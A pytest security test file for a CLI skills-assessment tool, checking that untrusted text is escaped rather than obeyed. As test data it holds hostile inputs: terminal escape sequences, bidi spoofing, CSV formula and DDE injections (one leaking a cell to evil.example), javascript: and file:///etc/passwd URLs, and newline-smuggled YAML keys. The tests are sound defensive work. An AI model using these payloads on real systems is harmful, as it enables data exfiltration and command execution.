r"""Text from files is shown, never obeyed: terminal, CSV, links and YAML comments.

Drop-in cases: ``tests/cases/hostile/*.yaml`` are valid profiles whose text attacks the
output (markup, escape sequences, formulas); ``tests/cases/hostile-catalog/*.yaml`` are
catalog files added to a copy of the shipped catalog, defining a role ``hostile``;
``tests/cases/resume/*.json`` with ``meta.skillgap_expect`` are résumés whose text tries
to add keys to the imported profile. Each ``# shows: TEXT`` line of a case is text the
terminal report must show as it is (control characters as ``\x1b``).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import CASES, ROOT, Run
from skillgap.inputs.loader import parse
from skillgap.untrusted import (
    comment,
    csv_cell,
    json_text,
    link_url,
    one_line,
    safe_text,
    unsafe,
)

HOSTILE = sorted((CASES / "hostile").glob("*.yaml"))
HOSTILE_CATALOGS = sorted((CASES / "hostile-catalog").glob("*.yaml"))
RESUMES = [
    p
    for p in sorted((CASES / "resume").glob("*.json"))
    if "skillgap_expect" in json.loads(p.read_text(encoding="utf-8")).get("meta", {})
]
# Anything a terminal could obey: C0 but tab and newline, DEL, C1, bidi controls, separators.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def shows(case: Path) -> list[str]:
    """The ``# shows:`` lines of a drop-in case: text the report must print literally."""
    lines = case.read_text(encoding="utf-8").splitlines()
    return [ln.removeprefix("# shows: ") for ln in lines if ln.startswith("# shows: ")]


def flat(text: str) -> str:
    """Text with the layout taken out (wrapping, padding, panel borders), to find a name in it."""
    return re.sub(r"[\s│]+", "", text)


def assert_inert(text: str, where: str) -> None:
    """No raw control character (so no escape sequence at all: colour is off in tests)."""
    found = RAW_CONTROL.search(text)
    assert found is None, f"{where}: raw {found[0]!r} at {found.start()}"


# --- the helpers themselves ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain [/] text", "plain [/] text"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x1b]52;c;aGk=\x07", "\\x1b]52;c;aGk=\\x07"),
        ("a\tb\nc", "a\tb\nc"),
        ("\r\x0b\x0c\x7f\x85\x9b", "\\x0d\\x0b\\x0c\\x7f\\x85\\x9b"),
        ("\u202egnp.exe\u202c \u2066x\u2069", "\\u202egnp.exe\\u202c \\u2066x\\u2069"),
        ("a\u2028b\u2029", "a\\u2028b\\u2029"),
        ("lone \ud800", "lone \\ud800"),
        ("café 🚀 ünï", "café 🚀 ünï"),
    ],
)
def test_safe_text_shows_controls_visibly(raw: str, shown: str) -> None:
    """Control, bidi and separator characters are written out; tab, newline, Unicode stay."""
    assert safe_text(raw) == shown


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_safe_text_leaves_nothing_a_terminal_obeys(text: str) -> None:
    """Whatever the input, the output holds no raw control character and is idempotent."""
    out = safe_text(text)
    assert unsafe().search(out) is None
    assert safe_text(out) == out
    assert "\n" not in one_line(text)


@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
@settings(max_examples=200, deadline=None)
def test_json_text_keeps_the_data_and_shows_no_control(data: object) -> None:
    """JSON output writes what a terminal obeys as escapes; parsed, it is the same data."""
    out = json_text(json.dumps(data, ensure_ascii=False, indent=2))
    assert unsafe().search(out) is None
    assert json.loads(out) == data


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_a_comment_never_adds_a_key(text: str) -> None:
    """Any text written as a YAML comment stays in the comment: the document is unchanged."""
    doc = f"a: 1   {comment(text)}\n{comment(text)}\nb: 2\n"
    assert parse(doc, "<comment>").data == {"a": 1, "b": 2}
    assert yaml.safe_load(doc) == {"a": 1, "b": 2}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\\x0d=1"),
        ("a\x1b[2Jb\nc", "a\\x1b[2Jb\nc"),
        ("  =1", "'  =1"),
        ("-3", "-3"),
        ("72.5", "72.5"),
        ("-0.5e3", "-0.5e3"),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formulas_not_numbers(cell: str, written: str) -> None:
    """A cell a spreadsheet would evaluate gets a leading quote; a plain number stays a number."""
    assert csv_cell(cell) == written


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://example.org/a_b?x=1", "https://example.org/a_b?x=1"),
        ("HTTP://Example.org/", "HTTP://Example.org/"),
        ("  https://example.org/ ", "https://example.org/"),
        ("https://example.org/<x> y", "https://example.org/%3Cx%3E%20y"),
        ("javascript:alert(1)", None),
        ("  JaVaScRiPt:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html,<script>", None),
        ("vbscript:msgbox(1)", None),
        ("file:///etc/passwd", None),
        ("//evil.example/", None),
        ("https:evil", None),
        ("https://\x1b[2J", None),
    ],
)
def test_only_http_urls_become_links(url: str, link: str | None) -> None:
    """http(s) URLs are links (percent-encoded where needed); every other scheme is text."""
    assert link_url(url) == link


# --- drop-in cases through the CLI --------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE, ids=[p.stem for p in HOSTILE])
def test_hostile_profile_is_shown_not_obeyed(case: Path, run: Run) -> None:
    """Every command and format shows the case's text, never an escape sequence; no exit 70."""
    before = case.read_bytes()
    runs = {
        "assess": run("assess", case, "--start-date", "2026-12-01"),
        "assess -f markdown": run("assess", case, "-f", "markdown", "--start-date", "2026-12-01"),
        "assess -f html": run("assess", case, "-f", "html", "--start-date", "2026-12-01"),
        "plan": run("plan", case, "--start-date", "2026-12-01"),
        "match": run("match", case, "--start-date", "2026-12-01"),
        "compare": run("compare", case, case, "--start-date", "2026-12-01"),
        "validate": run("validate", case),
        "batch -f table": run("batch", case, "-f", "table", "--jobs", "1"),
        "assess -f json": run("assess", case, "-f", "json", "--start-date", "2026-12-01"),
        "validate -f json": run("validate", case, "-f", "json"),
        "batch -f jsonl": run("batch", case, "--jobs", "1"),
        "batch -f json": run("batch", case, "-f", "json", "--jobs", "1"),
    }
    for name, result in runs.items():
        assert result.exit_code == 0, f"{name}: {result.stderr}"
        assert_inert(result.stdout, f"{name} stdout")
        assert_inert(result.stderr, f"{name} stderr")
    # JSON writes those characters as \u escapes: the data itself is unchanged
    name = yaml.safe_load(case.read_text(encoding="utf-8"))["name"]
    assert json.loads(runs["assess -f json"].stdout)["profile"] == name.strip()
    assert json.loads(runs["batch -f jsonl"].stdout)["name"] == name.strip()
    assert case.read_bytes() == before
    report = flat(runs["assess"].stdout)
    for text in shows(case):
        assert flat(text) in report, f"{text!r} is not shown as it is"


def test_hostile_profiles_in_a_batch_csv_are_not_formulas(run: Run) -> None:
    """A cohort CSV of hostile names holds no cell a spreadsheet would run as a formula."""
    result = run("batch", CASES / "hostile", "-f", "csv", "--all-roles", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    assert_inert(result.stdout, "csv")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) == 1 + 6 * len(HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA) or re.fullmatch(r"-?[\d.]+", cell), cell
    names = {row[1] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in names
    assert "'-2+3+cmd|' /C calc'!A0" in names


@pytest.fixture(params=HOSTILE_CATALOGS, ids=[p.stem for p in HOSTILE_CATALOGS])
def hostile_catalog(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, Path]:
    """A copy of the shipped catalog with one hostile case file added; (folder, case)."""
    folder = tmp_path / "catalog"
    shutil.copytree(ROOT / "catalog", folder)
    case: Path = request.param
    shutil.copy(case, folder / "90-hostile.yaml")
    return folder, case


def test_hostile_catalog_is_shown_not_obeyed(hostile_catalog: tuple[Path, Path], run: Run) -> None:
    """Roles, role views, reports and plans print a catalog's text literally; no exit 70."""
    folder, case = hostile_catalog
    student = ROOT / "profiles" / "student.yaml"
    day = ("--start-date", "2026-12-01")
    runs = {
        "validate": run("validate", folder),
        "roles": run("roles", "--catalog", folder),
        "roles show": run("roles", "show", "hostile", "--catalog", folder),
        "assess": run("assess", student, "--role", "hostile", "--catalog", folder, *day),
        "plan": run("plan", student, "--role", "hostile", "--catalog", folder, *day),
        "match": run("match", student, "--catalog", folder, *day),
        "batch -f table": run(
            "batch", student, "--role", "hostile", "-c", folder, "-f", "table", "-j", "1"
        ),
    }
    for name, result in runs.items():
        assert result.exit_code in (0, 1), f"{name}: {result.stderr}"
        assert_inert(result.stdout, f"{name} stdout")
        assert_inert(result.stderr, f"{name} stderr")
    shown = flat(runs["roles show"].stdout + runs["plan"].stdout)
    for text in shows(case):
        assert flat(text) in shown, f"{text!r} is not shown as it is"


def test_hostile_catalog_urls_never_become_links(
    hostile_catalog: tuple[Path, Path], run: Run
) -> None:
    """In Markdown and HTML, only http(s) URLs are links; javascript:, data: ... stay text."""
    folder, _ = hostile_catalog
    student = ROOT / "profiles" / "student.yaml"
    args = (student, "--role", "hostile", "--catalog", folder, "--start-date", "2026-12-01")
    md = run("assess", *args, "-f", "markdown")
    html = run("assess", *args, "-f", "html")
    assert md.exit_code == html.exit_code == 0, md.stderr + html.stderr
    assert_inert(md.stdout, "markdown")
    assert_inert(html.stdout, "html")
    autolinks = re.findall(r"<([A-Za-z][A-Za-z0-9+.-]*):", md.stdout)
    assert {s.lower() for s in autolinks} <= {"http", "https"}, autolinks
    assert "](" not in md.stdout
    hrefs = re.findall(r"""href\s*=\s*["']?([^"' >]*)""", html.stdout, re.IGNORECASE)
    outside = [h for h in hrefs if not h.startswith("#")]  # the contents' links are in-page
    assert all(h.lower().startswith(("http://", "https://")) for h in outside), outside
    assert "<script" not in html.stdout


# --- import: comments stay comments ---------------------------------------------------------


@pytest.mark.parametrize("case", RESUMES, ids=[p.stem for p in RESUMES])
def test_imported_profile_has_exactly_the_keys_it_should(
    case: Path, run: Run, tmp_path: Path
) -> None:
    """Line breaks in a résumé's unmapped items stay inside the comments they are written to."""
    expect = json.loads(case.read_text(encoding="utf-8"))["meta"]["skillgap_expect"]
    out = tmp_path / "me.yaml"
    result = run("import", case, "-o", out, "--as-of", "2026-01-01")
    assert result.exit_code == 0, result.stderr
    assert_inert(result.stderr, "import report")
    data = yaml.safe_load(out.read_text(encoding="utf-8"))
    assert sorted(data) == sorted(expect["keys"])
    assert sorted(data["skills"]) == sorted(expect["skills"])
    assert run("assess", out, "--no-plan").exit_code in (0, 1)


def test_source_file_name_with_a_newline_stays_in_the_header(
    write: Callable[[str, str | bytes], Path], run: Run, tmp_path: Path
) -> None:
    """The résumé's own file name, written into the header comment, cannot add a key either."""
    resume = write(
        "x\ncertifications: [aws-mls]\n#.json",
        '{"basics": {"name": "Ada"}, "skills": [{"name": "Python", "level": "3"}]}',
    )
    out = tmp_path / "me.yaml"
    result = run("import", resume, "-o", out, "--as-of", "2026-01-01")
    assert result.exit_code == 0, result.stderr
    assert sorted(yaml.safe_load(out.read_text(encoding="utf-8"))) == ["name", "skills"]


# --- messages ---------------------------------------------------------------------------------


def test_error_messages_show_names_visibly(
    write: Callable[[str, str | bytes], Path], run: Run
) -> None:
    """An error quoting a hostile field name keeps its position and prints the escape as text."""
    path = write("bad.yaml", 'name: Eve\n"sk\\e[2Jills\\nfake: line": {}\n')
    result = run("assess", path)
    assert result.exit_code == 3
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"{path}:2:1: error: unknown field 'sk\\x1b[2Jills\\x0afake: line'")
    assert_inert(result.stderr, "stderr")


def test_markup_in_a_skill_no_longer_crashes(
    write: Callable[[str, str | bytes], Path], run: Run
) -> None:
    """``"[/]": 3`` as a skill is an unknown skill shown as it is, not an internal error."""
    path = write("p.yaml", 'name: Eve\nskills:\n  "[/]": 3\n')
    for command in ("assess", "plan", "match"):
        result = run(command, path, "--start-date", "2026-12-01")
        assert result.exit_code == 0, f"{command}: {result.stderr}"
        assert "Traceback" not in result.stderr
    # the warning wraps where the temporary path's length puts it: compare the words
    assert "unknown skill '[/]'" in " ".join(run("assess", path, "--no-plan").stdout.split())


def test_terminal_capture_is_the_last_guard() -> None:
    """A renderable built without the helpers still prints its control characters visibly."""
    from rich.text import Text

    from skillgap.renderers.console import capture

    out = capture([Text("a\x1b[2Jb", style="bold"), "[/] c\x1b]52;x\x07"], color=True, width=80)
    assert "a\\x1b[2Jb" in out
    assert "[/] c\\x1b]52;x\\x07" in out
    # colour on: rich's own style codes are the only escape sequences left
    assert_inert(re.sub(r"\x1b\[[0-9;]*m", "", out), "capture")


def test_a_name_in_an_error_cannot_fake_a_line(
    write: Callable[[str, str | bytes], Path], run: Run
) -> None:
    """A newline in a quoted name is shown escaped: the message keeps to its own line."""
    path = write("p.yaml", 'name: Eve\ntarget_role: "nope\\nskillgap: error: fake line"\n')
    result = run("assess", path)
    assert result.exit_code in (2, 3)
    assert "nope\\x0askillgap: error: fake line" in result.stderr
    assert not any(line.startswith("skillgap: error: fake") for line in result.stderr.splitlines())


def test_debug_traceback_shows_names_visibly(
    write: Callable[[str, str | bytes], Path], run: Run
) -> None:
    """--debug prints the traceback of an error quoting a file, its escapes shown as text."""
    path = write("bad.yaml", 'name: Eve\n"\\e]52;c;aGk=\\a": {}\n')
    result = run("assess", path, "--debug")
    assert result.exit_code == 3
    assert "Traceback" in result.stderr
    assert "\\x1b]52;c;aGk=\\x07" in result.stderr
    assert_inert(result.stderr, "stderr")
